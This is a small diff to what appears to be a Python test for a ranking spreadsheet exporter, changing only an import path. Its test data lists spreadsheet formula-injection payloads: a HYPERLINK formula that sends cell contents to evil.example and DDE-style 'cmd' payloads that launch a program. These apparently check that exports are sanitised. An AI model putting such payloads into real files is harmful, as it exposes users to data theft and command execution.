@@ -9,7 +9,7 @@ from typing import Any
 
 from openpyxl import load_workbook
 
-from scoring.export import ranking_workbook
+from scoring.adapters.files.ranking_xlsx import ranking_workbook
 
 NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
          "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1")
